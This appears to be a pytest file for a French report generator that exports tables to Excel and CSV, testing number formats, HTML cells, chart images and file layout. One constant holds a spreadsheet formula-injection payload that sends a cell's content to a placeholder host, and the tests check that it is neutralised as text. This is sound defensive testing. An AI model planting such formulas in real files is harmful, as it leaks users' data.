"""The data contract of the displays (rendu.presentation) and the report's tables as data
(livrables.tableur: donnees.xlsx and donnees/*.csv), issue 17."""

from __future__ import annotations

import base64
import datetime as dt
import html
import io
import json
import re

import numpy as np
import nbformat
import pandas as pd
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from diagnostic_territorial.livrables import tableur as tb
from diagnostic_territorial.livrables.rapport import ChapitreExecute, assembler
from diagnostic_territorial.rendu import formats as fm
from diagnostic_territorial.rendu import presentation as pr

META = {"nom_territoire": "CC Test", "date": dt.date(2026, 11, 23)}
ATTAQUE = '=HYPERLINK("http://exemple.invalid/?x="&A1,"clic")'


@pytest.fixture
def affiches(monkeypatch):
    """Replace IPython's display: the outputs, as a notebook records them."""
    import IPython.display

    sorties = []

    def display(objet, raw=False, metadata=None):
        data = dict(objet) if raw else {"text/html": objet.data}
        sorties.append(new_output("display_data", data=data, metadata=metadata or {}))

    monkeypatch.setattr(IPython.display, "display", display)
    return sorties


def _cellules_html(contenu: str) -> tuple[list[str], list[list[str]], list[bool]]:
    """Headers, rows and right-aligned columns of a rendered table, read back from its HTML."""
    entetes = [html.unescape(t) for t in re.findall(r"<th(?: [^>]*)?>(.*?)</th>", contenu)]
    alignes = [' class="nombre"' in m for m in re.findall(r"<th((?: [^>]*)?)>", contenu)]
    lignes = [[html.unescape(t) for t in re.findall(r"<td(?: [^>]*)?>(.*?)</td>", ligne)]
              for ligne in re.findall(r"<tr>(.*?)</tr>", contenu.split("<tbody>")[1])]
    return entetes, lignes, alignes


def _table_filosofi():
    """A table as a chapter writes it: labels, a numeric column, cells it formatted itself."""
    return pd.DataFrame({
        "Territoire": ["CC Test", "Haute-Garonne", "Commune « A » & co"],
        "Ménages": [6120, 640512, np.nan],
        "Part des 0-14 ans": [0.1834, 0.171, np.nan],
        "Revenu médian": [fm.euros(21790), fm.euros(23380), fm.SECRET],
        "Évolution": ["+1,2\u00a0pt", fm.evolution(-0.0345), fm.NON_DISPONIBLE],
        "Code": ["200068815", "31", "01234"],
    })


# --- The contract of a table --------------------------------------------------------------------


def test_tableau_cellules_du_html_et_valeurs_brutes(affiches):
    df = _table_filosofi()
    pr.tableau(df, "Insee, Filosofi 2021", format_colonnes={"Part des 0-14 ans": "pourcentage"},
               titre="Revenus disponibles <en 2021>")
    sortie = affiches[-1]
    t = pr.tableau_d_une_sortie(sortie)
    entetes, lignes, alignes = _cellules_html(sortie["data"]["text/html"])
    # the cells are exactly the text the report shows
    assert t["colonnes"] == entetes == list(df.columns)
    assert t["lignes"] == lignes
    assert t["numeriques"] == alignes
    assert lignes[0][3] == "21\u202f790\u00a0€" and lignes[2][1] == "n.d." and lignes[2][3] == "s"
    # raw values: the numbers themselves, null for secret and absent, text kept as text
    assert t["valeurs"][0][:3] == ["CC Test", 6120, 0.1834]
    assert t["valeurs"][1][2] == pytest.approx(0.171)
    assert t["valeurs"][2][1] is None and t["valeurs"][2][2] is None  # NaN
    assert t["valeurs"][0][3] == 21790 and t["valeurs"][1][3] == 23380  # read back from « 21 790 € »
    assert t["valeurs"][2][3] is None and t["valeurs"][2][4] is None  # « s », « n.d. »
    assert t["valeurs"][0][4] == pytest.approx(1.2) and t["valeurs"][1][4] == pytest.approx(-3.5)
    assert [ligne[5] for ligne in t["valeurs"]] == ["200068815", 31, "01234"]  # codes stay text
    assert t["valeurs"][2][0] == "Commune « A » & co"
    assert t["titre"] == "Revenus disponibles <en 2021>"
    assert 'aria-label="Revenus disponibles &lt;en 2021&gt;"' in sortie["data"]["text/html"]
    assert t["source"] == "Source : Insee, Filosofi 2021" and t["millesime"] == 2021
    assert t["unite"] is None  # euros and percentages: no single unit
    json.dumps(sortie["metadata"], allow_nan=False)  # stored in the notebook as JSON


def test_tableau_valeurs_donnees_par_le_chapitre_et_secret(affiches):
    """The generic chapters format their cells and pass the raw values: NaN there is null."""
    affichee = pd.DataFrame({"Indicateur": ["Part des familles monoparentales (2021)", "Revenu médian (2021)"],
                             "CC Test": ["18,3\u00a0%", "s"], "France": ["16,1\u00a0%", "21\u202f930\u00a0€"]})
    brutes = pd.DataFrame({"CC Test": [0.18347, np.nan], "France": [0.1612, 21930.0]})
    pr.tableau(affichee, "Source : Insee, RP 2021", valeurs=brutes)
    t = pr.tableau_d_une_sortie(affiches[-1])
    assert t["valeurs"] == [["Part des familles monoparentales (2021)", 0.18347, 0.1612],
                            ["Revenu médian (2021)", None, 21930.0]]
    assert t["lignes"][1] == ["Revenu médian (2021)", "s", "21\u202f930\u00a0€"]
    assert t["titre"] == "Indicateur"  # no title given: the first column


def test_unite_et_millesime_deduits():
    t = pr.donnees_tableau(pd.DataFrame({"Commune": ["A", "B"], "Part": [0.5, 0.25]}), "Insee, RP 2015 et 2021",
                           format_colonnes={"Part": "pourcentage"})
    assert t["unite"] == "%" and t["millesime"] is None  # two years named: no single millésime
    t = pr.donnees_tableau(pd.DataFrame({"Commune": ["A"], "Part": [0.5]}), None, millesime=2020, unite="%")
    assert t["source"] == "" and t["millesime"] == 2020 and t["unite"] == "%"


@pytest.mark.parametrize("texte, attendu", [
    ("21\u202f800\u00a0€", 21800), ("12,3\u00a0%", 12.3), ("−1,2\u00a0pt", -1.2), ("+3,4 %", 3.4),
    ("1 234 567", 1234567), ("2021", 2021), ("0,92", 0.92), ("s", None), ("n.d.", None), ("", None),
    ("31069", "31069"), ("01234", "01234"), ("2A004", "2A004"), ("Rieumes", "Rieumes"), ("12 ans", "12 ans"),
])
def test_lire_nombre(texte, attendu):
    assert pr.lire_nombre(texte) == attendu


# --- The contract of a chart and a map ----------------------------------------------------------


def _figure():
    from diagnostic_territorial.rendu import graphiques

    table = pd.DataFrame({"commune": ["Rieumes", "Bérat", "Lherm"], "valeur": [21790.0, 23100.0, 19800.0]})
    return graphiques.barres_horizontales(table, "valeur", "commune", "Revenu médian par commune", "",
                                          format_valeur=fm.euros)


def test_figure_png_a_cote_du_html(affiches):
    fig = _figure()
    alt = fig.texte_alternatif
    pr.figure(fig, "Insee, Filosofi 2021")
    sortie = affiches[-1]
    donnees, png = pr.figure_d_une_sortie(sortie)
    contenu = sortie["data"]["text/html"]
    src, alt_html = re.search(r'<img src="data:image/png;base64,([^"]+)" alt="([^"]*)"', contenu).groups()
    assert sortie["data"]["image/png"] == src  # the same image, not computed twice
    assert png == base64.b64decode(src) and png.startswith(b"\x89PNG\r\n\x1a\n")
    assert donnees == {"titre": "Revenu médian par commune", "alt": alt, "source": "Source : Insee, Filosofi 2021"}
    assert html.unescape(alt_html) == alt and "Rieumes" in alt
    assert pr.tableau_d_une_sortie(sortie) is None and pr.carte_d_une_sortie(sortie) is None


def _communes():
    import geopandas as gpd
    import shapely

    carres = [shapely.box(1.0 + 0.1 * i, 43.3, 1.1 + 0.1 * i, 43.4) for i in range(5)]
    return gpd.GeoDataFrame({"code": [f"3100{i}" for i in range(5)], "nom": list("ABCDE"),
                             "Q2": [19000.0, 20500.0, 21800.0, 23000.0, 25000.0]}, geometry=carres, crs=4326)


def test_carte_png_statique_a_cote_du_html(affiches):
    pr.carte(_communes(), "Q2", "Revenu médian par commune", "Insee, Filosofi 2021", format_valeur=fm.euros,
             tuiles=False)
    sortie = affiches[-1]
    donnees, png = pr.carte_d_une_sortie(sortie)
    contenu = sortie["data"]["text/html"]
    statique = re.search(r'<div class="carte-statique"><img src="data:image/png;base64,([^"]+)" alt="([^"]*)"',
                         contenu)
    assert base64.b64decode(statique.group(1)) == png
    assert donnees["titre"] == "Revenu médian par commune" and donnees["source"] == "Source : Insee, Filosofi 2021"
    assert donnees["alt"] == html.unescape(statique.group(2))
    assert f'aria-label="{html.escape(donnees["alt"], quote=True)}"' in contenu  # same sentence as the iframe's
    assert pr.figure_d_une_sortie(sortie) is None


def test_le_rapport_montre_l_image_une_seule_fois(affiches, tmp_path):
    pr.figure(_figure(), "Insee, Filosofi 2021")
    sortie = affiches[-1]
    nb = new_notebook()
    nb.cells = [new_markdown_cell("# Revenus"), new_code_cell("figure()", outputs=[sortie])]
    nbformat.write(nb, tmp_path / "revenus.ipynb")
    rapport = assembler([ChapitreExecute(1, "revenus", "Revenus", tmp_path / "revenus.ipynb", "ok")],
                        tmp_path / "rapport.html", {**META, "version": "0"}).read_text(encoding="utf-8")
    assert rapport.count(sortie["data"]["image/png"]) == 1
    assert rapport.count('<div class="figure">') == 1


# --- The workbook and the CSV files -------------------------------------------------------------


def _tableaux() -> list[tb.TableauRapport]:
    df = _table_filosofi()
    df.loc[2, "Territoire"] = ATTAQUE  # a label copied from the study's files
    principal = pr.donnees_tableau(df, "Insee, Filosofi 2021", format_colonnes={"Part des 0-14 ans": "pourcentage"},
                                   titre="Revenus disponibles : le territoire, ses références et ses communes")
    percent = pr.donnees_tableau(pd.DataFrame({"Territoire": ["CC Test"], "Taux de pauvreté": ["12,4\u00a0%"]}),
                                 "Insee, Filosofi 2021", titre="Revenus disponibles : le territoire, ses références "
                                 "et ses communes")  # same title: another sheet name
    return [tb.TableauRapport(3, "Accès aux droits", 1, principal), tb.TableauRapport(3, "Accès aux droits", 2, percent)]


def test_classeur_nombres_formats_et_en_tete(tmp_path):
    import openpyxl

    xlsx, _ = tb.ecrire(_tableaux(), tmp_path, META)
    wb = openpyxl.load_workbook(xlsx)
    noms = wb.sheetnames
    assert noms[0] == tb.FEUILLE_SOMMAIRE and len(noms) == 3
    assert all(len(n) <= 31 for n in noms) and len({n.lower() for n in noms}) == 3
    assert noms[1].startswith("3.1 Revenus disponibles") and noms[2].startswith("3.2 Revenus disponibles")
    ws = wb[noms[1]]
    assert [ws.cell(i, 1).value for i in range(1, 6)] == [
        "Revenus disponibles : le territoire, ses références et ses communes", "Chapitre 3 : Accès aux droits",
        "Unité : indiquée par les libellés des lignes et des colonnes", "Source : Insee, Filosofi 2021",
        "Millésime : 2021"]
    entete = tb.LIGNE_ENTETE
    assert [c.value for c in ws[entete]] == list(_table_filosofi().columns)
    menages, part, revenu, evolution = (ws.cell(entete + 1, j) for j in (2, 3, 4, 5))
    assert menages.value == 6120 and menages.number_format == "#,##0"
    assert part.value == pytest.approx(0.1834) and part.number_format == "#,##0.0 %"  # Excel's percent
    assert revenu.value == 21790 and revenu.number_format == '#,##0" €"'
    assert evolution.value == pytest.approx(1.2) and evolution.number_format == '+#,##0.0" pt";-#,##0.0" pt";#,##0.0" pt"'
    assert ws.cell(entete + 2, 5).value == pytest.approx(-3.5) and ws.cell(entete + 2, 5).number_format.endswith('" %"')
    assert ws.cell(entete + 3, 4).value == "s" and ws.cell(entete + 3, 5).value == "n.d."  # as the report prints them
    attaque = ws.cell(entete + 3, 1)
    assert attaque.value == ATTAQUE and attaque.data_type == "s"  # text, never a formula
    assert ws.cell(entete + 1, 6).value == "200068815" and ws.cell(entete + 3, 6).value == "01234"
    # a percentage the chapter wrote itself is stored in percent, shown with a quoted « % »
    taux = wb[noms[2]].cell(entete + 1, 2)
    assert taux.value == pytest.approx(12.4) and taux.number_format == '#,##0.0" %"'
    assert wb[noms[2]].cell(3, 1).value == "Unité : %"
    # pandas reads the numbers as numbers
    lu = pd.read_excel(xlsx, sheet_name=noms[1], header=entete - 1)
    assert lu["Revenu médian"].tolist()[:2] == [21790, 23380]
    sommaire = pd.read_excel(xlsx, sheet_name=tb.FEUILLE_SOMMAIRE, header=4)
    assert sommaire["Onglet"].tolist() == noms[1:] and sommaire["Millésime"].tolist() == [2021, 2021]
    assert wb[tb.FEUILLE_SOMMAIRE].cell(6, 1).hyperlink.location == f"'{noms[1]}'!A1"


def test_classeur_reproductible(tmp_path):
    a, _ = tb.ecrire(_tableaux(), tmp_path / "a", META)
    b, _ = tb.ecrire(_tableaux(), tmp_path / "b", META)
    assert a.read_bytes() == b.read_bytes()
    autre, _ = tb.ecrire(_tableaux(), tmp_path / "c", {**META, "date": dt.date(2027, 1, 2)})
    assert autre.read_bytes() != a.read_bytes()


def test_csv_et_index(tmp_path):
    _, dossier = tb.ecrire(_tableaux(), tmp_path, META)
    (dossier / "99-ancien-tableau.csv").write_text("x", encoding="utf-8")
    _, dossier = tb.ecrire(_tableaux(), tmp_path, META)  # a table gone from the report: its file too
    fichiers = sorted(p.name for p in dossier.iterdir())
    assert fichiers == ["01-revenus-disponibles-le-territoire-ses-references.csv",
                        "02-revenus-disponibles-le-territoire-ses-references.csv", "index.csv"]
    brut = (dossier / fichiers[0]).read_bytes()
    assert brut.startswith("\ufeff".encode("utf-8")) and b"\r\n" in brut
    lu = pd.read_csv(io.BytesIO(brut), sep=";", decimal=",", encoding="utf-8-sig", dtype={"Code": str},
                     na_values=["s", "n.d."], keep_default_na=False)
    assert lu["Ménages"].tolist()[:2] == [6120, 640512]
    assert lu["Part des 0-14 ans"].tolist()[:2] == pytest.approx([18.34, 17.1])  # in percent, as shown
    assert lu["Revenu médian"].tolist()[:2] == [21790, 23380]
    assert brut.decode("utf-8-sig").splitlines()[3].split(";")[3:5] == ["s", "n.d."]  # as the report prints them
    assert lu["Code"].tolist() == ["200068815", "31", "01234"]
    assert lu["Territoire"].tolist()[2] == "'" + ATTAQUE  # a spreadsheet will not run it
    index = pd.read_csv(dossier / "index.csv", sep=";", encoding="utf-8-sig", dtype=str)
    assert index.columns.tolist() == ["fichier", "onglet", "chapitre", "titre", "unité", "source", "millésime"]
    assert index["fichier"].tolist() == fichiers[:2]
    assert index["source"].tolist() == ["Source : Insee, Filosofi 2021"] * 2
    assert index["millésime"].tolist() == ["2021", "2021"] and index["unité"].tolist()[1] == "%"


# --- Reading the executed notebooks -------------------------------------------------------------


def _notebook(chemin, sorties, tags=()):
    nb = new_notebook()
    nb.cells = [new_markdown_cell("# Chapitre")]
    for sortie in sorties:
        cellule = new_code_cell("x", outputs=[sortie])
        cellule.metadata["tags"] = list(tags)
        nb.cells.append(cellule)
    nbformat.write(nb, chemin)
    return chemin


def test_tableaux_dans_l_ordre_du_rapport(affiches, tmp_path):
    for titre in ("Premier", "Deuxième", "Masqué", "Échec"):
        pr.tableau(pd.DataFrame({"Commune": ["A"], "Valeur": [1.5]}), "Source : Insee, RP 2021", titre=titre)
    pr.a_retenir(["Pas un tableau"])
    premier, deuxieme, masque, echec, point = affiches
    chapitres = [
        ChapitreExecute(2, "b", "Chapitre B", _notebook(tmp_path / "b.ipynb", [deuxieme, point]), "ok"),
        ChapitreExecute(1, "a", "Chapitre A", _notebook(tmp_path / "a.ipynb", [premier]), "ok"),
        ChapitreExecute(3, "c", "Chapitre C", _notebook(tmp_path / "c.ipynb", [masque], tags=["remove-cell"]), "ok"),
        ChapitreExecute(4, "d", "Chapitre D", _notebook(tmp_path / "d.ipynb", [echec]), "echec", "erreur"),
        ChapitreExecute(5, "e", "Chapitre E", None, "absent"),
    ]
    tableaux = tb.tableaux_des_chapitres(chapitres)
    assert [(t.numero, t.titre_chapitre, t.donnees["titre"]) for t in tableaux] == [
        ("1.1", "Chapitre A", "Premier"), ("2.1", "Chapitre B", "Deuxième")]


# --- The demo ---------------------------------------------------------------------------------


def test_donnees_xlsx_de_la_demo(etude_executee):
    """make rapport writes donnees.xlsx: the Filosofi median of the demo is there as a number, with
    its source line, and the CSV files say the same."""
    resultats = json.loads((etude_executee / "build" / "resultats" / "acces_aux_droits.json").read_text("utf-8"))
    mediane = resultats["chiffres"]["indicateurs"]["revenu_median"]
    xlsx = etude_executee / "livrables" / "donnees.xlsx"
    feuilles = pd.read_excel(xlsx, sheet_name=None, header=None)
    trouves = []
    for nom, feuille in feuilles.items():
        if nom == tb.FEUILLE_SOMMAIRE:
            continue
        entetes = feuille.iloc[tb.LIGNE_ENTETE - 1].tolist()
        if "Revenu disponible médian (€/UC/an)" not in entetes:
            continue
        table = feuille.iloc[tb.LIGNE_ENTETE:].set_axis(entetes, axis=1)
        ligne = table[table[entetes[0]] == "CC Cœur de Garonne"]
        if len(ligne):
            trouves.append((nom, ligne.iloc[0]["Revenu disponible médian (€/UC/an)"], feuille.iloc[3, 0]))
    assert trouves, f"aucun onglet ne donne le revenu médian du territoire : {list(feuilles)}"
    nom, valeur, source = trouves[0]
    assert isinstance(valeur, (int, float)) and valeur == mediane["territoire"]  # 21 800 € in the demo
    assert source.startswith(mediane["source"])  # « Source : Insee, Filosofi 2019 »
    index = pd.read_csv(etude_executee / "livrables" / "donnees" / "index.csv", sep=";", encoding="utf-8-sig",
                        dtype=str)
    ligne = index[index["onglet"] == nom].iloc[0]
    assert ligne["source"].startswith(mediane["source"]) and ligne["millésime"] == str(mediane["annee"])
    csv = pd.read_csv(etude_executee / "livrables" / "donnees" / ligne["fichier"], sep=";", encoding="utf-8-sig",
                      dtype=str)
    csv = csv.set_index(csv.columns[0])
    assert csv.loc["CC Cœur de Garonne", "Revenu disponible médian (€/UC/an)"] == tb.texte_csv(mediane["territoire"])
